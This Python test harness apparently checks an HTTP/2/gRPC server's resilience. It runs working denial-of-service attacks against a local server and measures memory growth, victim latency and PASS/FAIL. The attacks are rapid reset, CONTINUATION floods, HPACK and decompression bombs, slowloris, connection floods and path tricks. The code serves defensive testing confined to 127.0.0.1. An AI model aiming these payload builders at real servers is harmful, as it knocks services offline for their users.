#!/usr/bin/env python3
# attack/attack.py - attacks a server with what is known to knock servers over, while a victim makes its calls.
#
# usage: tests/attack/attack.py [--short] [--against nebula|nghttpd] [--server program] [row...]
#
# A line per row of attacks: growth of the server's memory (RSS), the victim's errors and the 99th percentile of its
# latency beside what it is without the attack, connections that the server closed, PASS or FAIL with the reason. The
# last line is "attack: N passed, M failed". Every row is bounded in time and in bytes, goes to 127.0.0.1 only, and ends
# what it has started.
#
# The server has one processor to itself. The other is shared by victim and attacker, who is at nice 19, and still
# costs the victim something; so its latency is held against what it is while the same attack goes into a sink, that is
# a process beside the attacker which reads and drops. A row is a minute of rounds of the three in turn, calm, attack
# and, for as long as that took, sink; the medians of their rounds are compared: a machine has moods, and the longer
# one looks the more of them one meets. Floods have twice the rate that makes 20,000 requests on each of ten
# connections in a minute. --short: one round of a second or two as fast as it goes, without a sink, too short for
# percentiles to be held to more than a floor.
import argparse
import contextlib
import gzip
import multiprocessing
import os
import pathlib
import random
import re
import resource
import selectors
import shutil
import signal
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, PRIORITY, RST, SETTINGS, WINDOW,
                    Peer, block, frame, get_head, grpc_head, headers, indexed_literal, integer, literal, message,
                    setting)

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
MIB = 1 << 20
VICTIM_RATE = 500  # calls a second
P99_FACTOR_MAX = 2
P99_FLOOR_S = 0.05  # --short: what the scheduler alone may cost
GROWTH_MAX = {11: 79 * MIB}  # else 20 MiB; 4,010 connections may have 20 KiB each
LEFT_MAX = 5 * MIB  # half a minute after
ROW_S, ROUND_S, CALM_S = 60, 12, 3
FLOOD_RATE = 2 * 200_000 / 60  # requests, or frames, a second
STREAMS_RETURNED = 33  # a second, to a connection that has wasted streams
AGAIN_S = 1.0  # between the beginnings of an attack that is made again and again
PROCESSORS = sorted(os.sched_getaffinity(0))
CANCEL = struct.pack(">I", 8)
NO_WINDOW = setting(4, 0)


class Server:
    """The process that is attacked."""

    def __init__(self, kind, program, files=None):
        self.folder = tempfile.TemporaryDirectory()
        command = [program]
        if kind == "nghttpd":
            pathlib.Path(self.folder.name, "echo").write_bytes(b"echo")
            pathlib.Path(self.folder.name, "big").write_bytes(bytes(MIB))
            with socket.create_server(("127.0.0.1", 0)) as free:
                self.port = free.getsockname()[1]
            found = shutil.which("nghttpd", path=os.environ.get("PATH", "") + ":/usr/sbin") or "nghttpd"
            command = [found, "--no-tls", "-a", "127.0.0.1", "-d", self.folder.name, str(self.port)]

        def prepare():
            os.sched_setaffinity(0, PROCESSORS[:1])
            if files:
                resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))

        self.process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, preexec_fn=prepare)
        if kind != "nghttpd":
            self.port = int(re.search(r"tcp://127\.0\.0\.1:(\d+)", self.process.stdout.readline())[1])
        for _ in range(100):
            try:
                return socket.create_connection(("127.0.0.1", self.port)).close()
            except ConnectionRefusedError:
                time.sleep(0.05)
        raise SystemExit(f"{command[0]} does not listen")

    def rss(self):
        with open(f"/proc/{self.process.pid}/statm") as file:
            return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")

    def cpu_s(self):
        with open(f"/proc/{self.process.pid}/stat") as file:
            return sum(map(int, file.read().rsplit(")", 1)[1].split()[11:13])) / os.sysconf("SC_CLK_TCK")

    def lives(self):
        """Also for who is not its parent."""
        with open(f"/proc/{self.process.pid}/stat") as file:
            return file.read().rsplit(")", 1)[1].split()[0] != "Z"

    def end(self):
        self.process.kill()
        self.process.wait()
        self.folder.cleanup()


def call(peer, wants, wait_s=5.0):
    """One unary echo on a connection. True: it was answered in full."""
    stream = peer.stream()
    if wants == "nghttpd":
        peer.send(headers(stream, get_head("/echo"), end=True))
    else:
        peer.send(headers(stream, grpc_head("/attack/echo")) + message(stream, b"echo"))
    answer, end = b"", time.monotonic() + wait_s
    while time.monotonic() < end and not peer.closed:
        for kind, flags, of, payload in peer.read(0.1):
            if of != stream:
                continue
            answer += payload if kind == DATA else b""
            if flags & END_STREAM and kind in (DATA, HEADERS):
                return answer.endswith(b"echo")
            if kind == RST:
                return False
    return False


def victim(port, wants, pipe):
    """A process of its own: calls at a steady rate. Told so, it says how it went since the last time; None ends it."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    peer, errors, times, due = Peer(port), 0, [], time.monotonic()
    while True:
        if pipe.poll(max(0.0, due - time.monotonic())):
            if pipe.recv() is None:
                return
            pipe.send((errors, sorted(times)))
            errors, times = 0, []
        due = max(due + 1 / VICTIM_RATE, time.monotonic() - 0.1)
        began = time.monotonic()
        if not call(peer, wants):
            errors += 1
            peer.close()
            try:
                peer = Peer(port)
            except OSError:
                time.sleep(0.05)
        times.append(time.monotonic() - began)


class Window:
    """How it went for a victim for a while."""

    def __init__(self, errors, times):
        self.errors, self.calls = errors, len(times)
        self.p50, self.p99 = (times[len(times) // 2], times[len(times) * 99 // 100]) if times else (20.0, 20.0)


class Victim:
    def __init__(self, server, wants):
        self.pipe, theirs = multiprocessing.Pipe()
        self.process = multiprocessing.Process(target=victim, args=(server.port, wants, theirs), daemon=True)
        self.process.start()
        os.sched_setaffinity(self.process.pid, PROCESSORS[-1:])

    def window(self):
        """What was since the last one."""
        self.pipe.send("tell")
        return Window(*(self.pipe.recv() if self.pipe.poll(20) else (1, [])))

    def stop(self):
        self.pipe.send(None)
        self.process.join(5)


class Run:
    """What a row needs, and what it says: `fail` for each figure that was not reached."""

    def __init__(self, server, wants, is_short, port=None):
        self.server, self.wants, self.is_short = server, wants, is_short
        self.port = port or server.port
        self.length_s = 1.5 if is_short else ROUND_S
        self.due = time.monotonic()
        self.ends = self.due + self.length_s
        self.peers, self.closed, self.taken, self.failures, self.notes = [], 0, 0, [], []
        self.before = self.most = server.rss()

    def goes_on(self):
        self.most = max(self.most, self.server.rss())
        return time.monotonic() < self.ends and self.server.lives()

    def peer(self, **how):
        self.peers.append(Peer(self.port, **how))
        return self.peers[-1]

    def head(self, path="echo", more=()):
        return get_head("/" + path, more) if self.wants == "nghttpd" else grpc_head("/attack/" + path, more)

    def fail_if(self, wrong, why):
        if wrong:
            self.failures.append(why)

    def growth(self):
        self.most = max(self.most, self.server.rss())
        return self.most - self.before

    def pace(self, count):
        """Waits as long as so many requests last at the rate of a flood."""
        if not self.is_short:
            self.due = max(self.due + count / FLOOD_RATE, time.monotonic() - 0.1)
            time.sleep(max(0.0, self.due - time.monotonic()))

    def flood(self, batch, streams_max=None, connections=10, step=50, end_s=10.0):
        """Sends batch(peer) again and again on several connections until the server ends each; with a bound of streams,
        to which a budget of the server's adds some each second that they live.
        In the long form the attacker comes back until the time is over."""
        while self._flood(batch, streams_max, connections, step, end_s) and not self.is_short and self.goes_on():
            continue

    def _flood(self, batch, streams_max, connections, step, end_s):
        peers = [self.peer() for _ in range(2 if self.is_short else connections)]
        began = time.monotonic()
        end = began + (min(end_s, self.length_s) if self.is_short else end_s)
        open_ = list(peers)
        while open_ and time.monotonic() < end and self.server.lives():
            for peer in list(open_):
                peer.send(b"".join(batch(peer) for _ in range(step)))
                self.pace(step)
                if peer.is_over():
                    open_.remove(peer)
            self.growth()
        self.closed += len(peers) - len(open_)
        self.fail_if(open_, f"{len(open_)} of {len(peers)} connections were not closed")
        taken = [(peer.goaway[0] + 1) // 2 for peer in peers if peer.goaway is not None and peer.goaway[0] < 1 << 30]
        if taken and streams_max is not None:
            self.taken = max([self.taken, *taken])
            bound = streams_max + STREAMS_RETURNED * (time.monotonic() - began)
            self.fail_if(max(taken) > bound, f"{max(taken)} streams were taken, {bound:.0f} are the bound")
        self.leave(peers)
        return not self.failures

    def leave(self, peers):
        for peer in peers:
            peer.close()
            self.peers.remove(peer)

    def again(self):
        """Rounds of an attack: one in the short form, else as many as there is time for."""
        yield
        while not self.is_short and not self.failures and self.goes_on():
            self.due += AGAIN_S
            time.sleep(max(0.0, self.due - time.monotonic()))
            yield


# ---- the rows of defences.md 1 ---------------------------------------------------------------------------------------

def rapid_reset(run):
    def batch(peer):
        stream = peer.stream()
        return headers(stream, run.head(), end=True) + frame(RST, 0, stream, CANCEL)
    run.flood(batch, streams_max=1000 + 50)  # a step more may be under way


def made_you_reset(run):
    def opened(peer, end=False):
        stream = peer.stream()
        return stream, headers(stream, run.head(), end=end)

    def with_frame(kind, payload, end=False, flags=0):
        def batch(peer):
            stream, text = opened(peer, end)
            return text + frame(kind, flags, stream, payload(stream))
        return batch

    triggers = [
        with_frame(WINDOW, lambda stream: bytes(4)),
        with_frame(WINDOW, lambda stream: struct.pack(">I", 0x7FFFFFFF)),
        with_frame(PRIORITY, lambda stream: struct.pack(">I", stream) + b"\x10"),
        with_frame(PRIORITY, lambda stream: b"1234"),
        with_frame(DATA, lambda stream: b"more", end=True),
        with_frame(HEADERS, lambda stream: block([("x", "y")]), end=True, flags=END_HEADERS | END_STREAM),
    ]
    for trigger in triggers:
        run.flood(trigger, streams_max=2000, connections=3)


def continuation_flood(run):
    for payload in (b"", literal("x", "y" * 50)):
        peers = [run.peer() for _ in range(10)]
        for peer in peers:
            peer.send(frame(HEADERS, 0, peer.stream(), run.head()))
            for _ in range(20):
                peer.send(frame(CONTINUATION, 0, 1, payload))
            ends = time.monotonic() + 2
            while not peer.is_over(0.05) and time.monotonic() < ends:
                peer.send(frame(CONTINUATION, 0, 1, payload))
        over = sum(peer.closed or peer.goaway is not None for peer in peers)
        run.closed += over
        run.fail_if(over < len(peers), f"{len(peers) - over} connections with an endless head were not closed")


def bomb(run):
    """One-byte references to one field, many streams, and no window for the answers (CVE-2026-49975)."""
    sent = 0
    for _ in run.again():
        peers = [run.peer(settings=NO_WINDOW) for _ in range(2 if run.is_short else 10)]
        for peer in peers:
            for number in range(100):
                first = indexed_literal("a", "") if number == 0 else b""
                text = headers(peer.stream(), run.head() + first + integer(62, 7, 0x80) * 16_000, end=True)
                sent += len(text)
                if not peer.send(text):
                    break
            run.growth()
        run.closed += sum(peer.is_over(0.05) for peer in peers)
        run.leave(peers)
    run.notes.append(f"amplification {run.growth() / sent:.1f}")
    run.fail_if(run.growth() > 10 * sent, "memory grew by more than ten times what was sent")


def hpack_bomb(run):
    """A large entry, referred to many times (CVE-2016-6581), and integers of endless bytes."""
    for _ in run.again():
        for peer in [run.peer() for _ in range(2 if run.is_short else 10)]:
            for number in range(20):
                first = indexed_literal("a", "x" * 3900) if number == 0 else b""
                if not peer.send(headers(peer.stream(), run.head() + first + integer(62, 7, 0x80) * 10_000, end=True)):
                    break
                run.growth()
            run.closed += peer.is_over(0.05)
            run.leave([peer])
    for peer in [run.peer() for _ in range(10)]:
        peer.send(headers(peer.stream(), run.head() + b"\xff" + b"\x80" * 1000 + b"\x01", end=True))
        run.closed += peer.is_over(2)
        run.fail_if(not peer.is_over(), "an endless integer did not end the connection")
    neighbour = run.peer()
    run.fail_if(not call(neighbour, run.wants), "a call on another connection failed")


def control_floods(run):
    kinds = [frame(SETTINGS, 0, 0, setting(4, 1 << 20)), frame(PING, 0, 0, b"12345678"), frame(DATA, 0, 1, b""),
             frame(WINDOW, 0, 0, struct.pack(">I", 1)), frame(PRIORITY, 0, 99, bytes(4) + b"\x10")]
    for kind in kinds:
        def batch(peer, kind=kind):
            text = headers(peer.stream(), run.head("hold")) if peer.next == 1 else b""
            return text + kind
        run.flood(batch, connections=3, step=200)
        # The same, and the answers are not read.
        peers = [run.peer() for _ in range(3)]
        deaf, ends = set(peers), time.monotonic() + 5
        while deaf and time.monotonic() < ends:
            deaf = {peer for peer in deaf if peer.send(b"".join(batch(peer) for _ in range(200))) or not peer.closed}
            run.growth()
        left = sum(not peer.is_over() for peer in deaf)
        run.closed += len(peers) - left
        run.fail_if(left, f"{left} of {len(peers)} connections that read nothing were not closed")
        run.leave(peers)
    run.fail_if(run.growth() > 5 * MIB, "memory grew by more than 5 MiB")


def zero_window(run):
    """100 answers that nobody reads, of 10 MB, of which one is kept for a while, and of 64 KiB, which all are."""
    for size in (10_000_000, 64 << 10):
        peer, over, refused = run.peer(settings=NO_WINDOW, window=False), 0, 0
        peer.send(b"".join(headers(stream, run.head("big"), end=run.wants == "nghttpd")
                           + (b"" if run.wants == "nghttpd" else message(stream, struct.pack("<I", size)))
                           for stream in (peer.stream() for _ in range(100))))
        ends = time.monotonic() + (1 if run.is_short else 40)
        while over < 100 and time.monotonic() < ends:
            found = peer.read(0.05)
            refused += sum(kind == HEADERS and flags & END_STREAM != 0 for kind, flags, *_ in found)
            over += sum(kind == RST or (kind == HEADERS and flags & END_STREAM != 0) for kind, flags, *_ in found)
            run.growth()
        run.notes.append(f"of {size >> 10} KiB {refused} refused, {over - refused} given up")
        run.fail_if(over < 100 and not run.is_short, "answers that nobody takes are kept")
        run.leave([peer])


def tiny_header_list(run):
    peer, count = run.peer(settings=setting(6, 1)), 200 if run.is_short else 20_000
    failed = 0
    for _ in range(count):
        failed += not call(peer, run.wants)
        if not run.goes_on() or failed:
            break
    run.fail_if(failed, "a call failed")


def unread_requests(run):
    """A length of 4 GiB and no message."""
    peer, ended = run.peer(), 0
    for _ in range(100 if run.is_short else 1000):
        stream = peer.stream()
        peer.send(headers(stream, run.head()) + frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + b"x" * 10))
        ended += sum(kind == HEADERS and flags & END_STREAM != 0 for kind, flags, *_ in peer.read(0))
    for _ in range(20):
        ended += sum(kind == HEADERS and flags & END_STREAM != 0 for kind, flags, *_ in peer.read(0.05))
    run.notes.append(f"{ended} refused")
    run.fail_if(run.growth() > 5 * MIB, "memory grew by more than 5 MiB")
    run.fail_if(run.wants == "nebula" and ended < (100 if run.is_short else 1000), "not all were refused")


def zip_bombs(run):
    """Small messages that are 10 MiB inflated: some say so, some lie, some say nothing; and zstd's, at 30,000:1."""
    zeros = gzip.compress(bytes(10 * MIB))
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"  # 128 KiB of one byte (RFC 8878, 3.1.1.2)
    bombs = [("gzip", zeros), ("gzip", zeros[:-4] + struct.pack("<I", 100)),
             ("zstd", b"\x28\xb5\x2f\xfd\x00\x38" + block * 79 + bytes([block[0] | 1]) + block[1:])]
    peers, count = [run.peer() for _ in range(2)], 100 if run.is_short else 1000
    refused = 0
    for encoding, bomb in bombs:
        open_ = []
        for number in range(count):
            peer = peers[number % 2]
            stream = peer.stream()
            peer.send(headers(stream, run.head(more=[("grpc-encoding", encoding)]))
                      + frame(DATA, 0, stream, b"\1" + struct.pack(">I", len(bomb)) + bomb))
            open_.append((peer, stream))
        run.growth()
        for peer, stream in open_:  # all have come, and now all are to be inflated
            peer.send(frame(DATA, END_STREAM, stream))
        wanted, ends = refused + count, time.monotonic() + 20
        while refused < wanted and time.monotonic() < ends:
            refused += sum(kind == HEADERS and flags & END_STREAM != 0
                           for peer in peers for kind, flags, *_ in peer.read(0.05))
            run.growth()
    run.notes.append(f"{refused} refused")
    run.fail_if(run.growth() > 20 * MIB, "memory grew by more than 20 MiB")
    run.fail_if(refused < len(bombs) * count, "not all were refused")


def slowloris(run):
    """Nothing at all, half a preface, half a head, half a frame: the connection goes. Half a message: the call does."""
    texts = [b"", HELLO[:10], HELLO + frame(HEADERS, 0, 1, run.head()), HELLO + headers(1, run.head("echo"))[:20]]
    half = [run.peer() for _ in range(10)]
    for peer in half if run.wants == "nebula" else []:
        peer.send(headers(peer.stream(), run.head()) + frame(DATA, 0, 1, b"\0\0\0\0\x09half"))
    sockets = []
    for number in range(100 if run.is_short else 4000):
        connection = socket.create_connection(("127.0.0.1", run.port))
        connection.sendall(texts[number % len(texts)])
        sockets.append(connection)
    end = time.monotonic() + (1.5 if run.is_short else 38)
    while time.monotonic() < end and run.server.lives():
        time.sleep(0.5)
        run.growth()
    ended = sum(any(kind == RST for kind, *_ in peer.read()) for peer in half)
    run.fail_if(ended < len(half) and not run.is_short and run.wants == "nebula",
                f"{len(half) - ended} calls with half a message were kept")
    for connection in sockets:
        connection.setblocking(False)
        try:
            while (data := connection.recv(4096)):
                pass
            run.closed += data == b""
        except BlockingIOError:
            pass
        except OSError:
            run.closed += 1
        connection.close()
    left = len(sockets) - run.closed
    run.fail_if(left > 0 and not run.is_short and run.wants == "nebula", f"{left} are still open")


def connection_flood(run):
    """More connections than the process may have descriptors; the victim keeps its own."""
    sockets, cpu, began = [], run.server.cpu_s(), time.monotonic()
    for _ in range(1000):
        connection = socket.socket()
        connection.settimeout(0.2)
        try:
            connection.connect(("127.0.0.1", run.port))
            connection.sendall(HELLO)
        except OSError:
            pass
        sockets.append(connection)
    time.sleep(1 if run.is_short else 25)
    share = (run.server.cpu_s() - cpu) / (time.monotonic() - began)
    for connection in sockets:
        connection.close()
    began = time.monotonic()
    while time.monotonic() - began < 5:
        try:
            if call(run.peer(), run.wants, 1.0):
                break
        except OSError:
            pass
    took = time.monotonic() - began
    run.notes.append(f"served again after {took * 1000:.0f} ms, {share:.0%} of a processor")
    run.fail_if(took > 1, "a new connection was not served within a second")


def metadata(run):
    """Too large or malformed: the call fails, its neighbours on the same connection do not."""
    bad = [[("x", "y" * 17_000)], [("x-bin", "!!!!")], [("Upper", "x")], [("x", b"a\r\nb")], [("x", b"a\0b")],
           [("x", "y")] * 200]
    heads = [run.head("echo", more) for more in bad]
    peer = run.peer()
    for _ in range(3 if run.is_short else 50):
        for head in heads:
            stream = peer.stream()
            parts = [head[at:at + 16_000] for at in range(0, len(head), 16_000)]
            text = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, stream, parts[0])
            for number, part in enumerate(parts[1:], 2):
                text += frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, stream, part)
            peer.send(text + message(stream, b"echo"))
            run.fail_if(not call(peer, run.wants), "a neighbour on the same connection failed")
    large = peer.stream()
    peer.send(headers(large, run.head("echo", [("x", "y" * 8300)])) + message(large, b"echo"))
    answers = [payload for kind, _, of, payload in peer.read(1) if kind == DATA and of == large]
    run.fail_if(run.wants == "nebula" and b"echo" not in b"".join(answers), "a head of 8.1 KiB was refused")


def path_tricks(run):
    """None but /attack/echo itself may reach the handler."""
    seed = int(os.environ.get("NEBULA_SEED", "1"))
    dice, peer, reached = random.Random(seed), run.peer(), []
    tricks = ["/", "//", "%2e", "%2f", ".", "..", ";", "?", "#", " ", "\\", "A", "%00", "/./", "/../", ";x=1", "?x=1"]
    for _ in range(500 if run.is_short else 10_000):
        path = "/attack/echo"
        for _ in range(dice.randint(1, 3)):
            at = dice.randint(0, len(path))
            path = dice.choice([path[:at] + dice.choice(tricks) + path[at:], path[:at] + path[at + 1:], path.swapcase(),
                                path[:at] + path[at:].capitalize()])
        if path == "/attack/echo":
            continue
        stream = peer.stream()
        run.pace(1)
        if not peer.send(headers(stream, grpc_head(path)) + message(stream, b"echo")) or peer.closed or peer.goaway:
            peer = run.peer()
            continue
        reached += [path for kind, _, of, payload in peer.read(0) if kind == DATA and payload.endswith(b"echo")]
        if not run.goes_on():
            break
    for kind, _, _, payload in peer.read(1):
        reached += ["?"] if kind == DATA and payload.endswith(b"echo") else []
    run.fail_if(reached, f"{len(reached)} reached the handler, one is {reached[:1]}; seed {seed}")


ROWS = {1: rapid_reset, 2: made_you_reset, 3: continuation_flood, 4: bomb, 5: hpack_bomb, 6: control_floods,
        7: zero_window, 8: tiny_header_list, 9: unread_requests, 10: zip_bombs, 11: slowloris, 12: connection_flood,
        13: metadata, 14: path_tricks}
GRPC_ONLY = {10, 13, 14}


def attack_once(number, server, options, pipe):
    """A process of its own: one round of the attack, and then how it went."""
    join_attacker()
    run = Run(server, options.against, options.short)
    try:
        ROWS[number](run)
    except OSError as error:
        run.fail_if(True, f"{type(error).__name__}: {error}")
    time.sleep(0.3)
    run.growth()
    pipe.send((run.most, run.closed, run.taken, run.failures, run.notes))


def join_attacker():
    """What the attacker has of the machine."""
    os.sched_setaffinity(0, PROCESSORS[-1:])
    os.nice(19)


def sink(listener):
    """A process of its own: takes whatever comes, and drops it."""
    join_attacker()
    listener.setblocking(False)
    with selectors.DefaultSelector() as selector:
        selector.register(listener, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                with contextlib.suppress(OSError):
                    if key.fileobj is listener:
                        selector.register(listener.accept()[0], selectors.EVENT_READ)
                        continue
                    if key.fileobj.recv(1 << 18):
                        continue
                if key.fileobj is not listener:
                    selector.unregister(key.fileobj)
                    key.fileobj.close()


def attack_sink(number, server, options, port):
    """A process of its own, until it is killed: how it goes for a sink is no matter."""
    join_attacker()
    while True:
        with contextlib.suppress(OSError):
            ROWS[number](Run(server, options.against, True, port))


class Row:
    """All rounds of an attack on one server."""

    def __init__(self, number, server, options):
        self.number, self.server, self.options = number, server, options
        self.calm, self.aside, self.attacked, self.failures, self.notes = [], [], [], [], []
        self.closed = self.taken = 0
        self.before = self.most = server.rss()

    def run(self):
        one = Victim(self.server, self.options.against)
        time.sleep(0.2)
        one.window()
        ends = time.monotonic() + ROW_S
        while not self.attacked or (not self.options.short and time.monotonic() < ends and not self.failures):
            time.sleep(0.7 if self.options.short else CALM_S)
            self.calm.append(one.window())
            began = time.monotonic()
            self.round()
            self.attacked.append(one.window())
            if not self.options.short:
                self.attack_a_sink(time.monotonic() - began)
            self.aside.append(one.window() if not self.options.short else self.calm[-1])
        one.stop()
        self.judge()

    def attack_a_sink(self, length_s):
        with socket.create_server(("127.0.0.1", 0), backlog=1024) as listener:
            goal = (self.number, self.server, self.options, listener.getsockname()[1])
            processes = [multiprocessing.Process(target=sink, args=(listener,), daemon=True),
                         multiprocessing.Process(target=attack_sink, args=goal, daemon=True)]
            for process in processes:
                process.start()
            time.sleep(length_s)
            for process in processes:
                process.kill()
                process.join()

    def round(self):
        ours, theirs = multiprocessing.Pipe()
        attacker = multiprocessing.Process(
            target=attack_once, args=(self.number, self.server, self.options, theirs), daemon=True)
        attacker.start()
        if ours.poll(2 * ROW_S):
            most, closed, taken, failures, self.notes = ours.recv()
            self.most, self.taken = max(self.most, most), max(self.taken, taken)
            self.closed += closed
            self.failures += failures
        else:
            self.failures.append("the attack did not come to its end")
        attacker.kill()
        attacker.join()

    def judge(self):
        errors = sum(window.errors for window in self.attacked)
        self.fail_if(not self.server.lives(), "the server has died")
        self.fail_if(errors, f"the victim had {errors} errors")
        self.fail_if(any(window.calls < 50 for window in self.attacked), "the victim made no calls")
        aside, attacked = self.p99(self.aside), self.p99(self.attacked)
        bound = P99_FACTOR_MAX * aside
        self.fail_if(attacked >= (max(bound, P99_FLOOR_S) if self.options.short else bound),
                     f"the victim's p99 went from {aside * 1e3:.1f} to {attacked * 1e3:.1f} ms")
        growth_max = GROWTH_MAX.get(self.number, 20 * MIB)
        self.fail_if(self.most - self.before > growth_max, f"memory grew by more than {growth_max // MIB} MiB")
        ends = time.monotonic() + 30
        while not self.options.short and self.left() > LEFT_MAX and time.monotonic() < ends:
            time.sleep(0.5)
        self.fail_if(not self.options.short and self.left() > LEFT_MAX,
                     f"{self.left() / MIB:.1f} MiB were not given back within 30 s")

    def left(self):
        return self.server.rss() - self.before

    def fail_if(self, wrong, why):
        if wrong:
            self.failures.append(why)

    @staticmethod
    def p99(windows):
        return statistics.median(window.p99 for window in windows)

    def print(self):
        calm, aside, attacked = self.p99(self.calm), self.p99(self.aside), self.p99(self.attacked)
        errors, calls = sum(each.errors for each in self.attacked), sum(each.calls for each in self.attacked)
        times = [calm, attacked] if self.options.short else [calm, aside, attacked]
        notes = self.notes + ([f"{self.taken} streams taken"] if self.taken else [])
        verdict = "PASS" if not self.failures else "FAIL: " + "; ".join(dict.fromkeys(self.failures))
        print(f"{self.number:>2} {ROWS[self.number].__name__:<18} rss +{(self.most - self.before) / MIB:5.1f} MiB  "
              f"victim {errors}/{calls} errors, p99 {' -> '.join(f'{each * 1e3:5.2f}' for each in times)} ms "
              f"({attacked / aside:4.1f}x)  closed {self.closed:>4}  {verdict}"
              f"{' (' + ', '.join(notes) + ')' if notes else ''}", flush=True)


def run_row(number, options):
    server = Server(options.against, options.server, files=256 if number == 12 else None)
    try:
        row = Row(number, server, options)
        row.run()
    finally:
        server.end()
    row.print()
    return not row.failures


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--short", action="store_true")
    parser.add_argument("--against", choices=["nebula", "nghttpd"], default="nebula")
    parser.add_argument("--server", default=str(ROOT / "build/release/tests/attack_server"))
    parser.add_argument("rows", nargs="*", type=int)
    options = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    rows = [number for number in ROWS if not options.rows or number in options.rows]
    outcomes = [run_row(number, options) for number in rows if options.against == "nebula" or number not in GRPC_ONLY]
    print(f"attack: {sum(outcomes)} passed, {len(outcomes) - sum(outcomes)} failed")
    return 0 if outcomes and all(outcomes) else 1


if __name__ == "__main__":
    sys.exit(main())
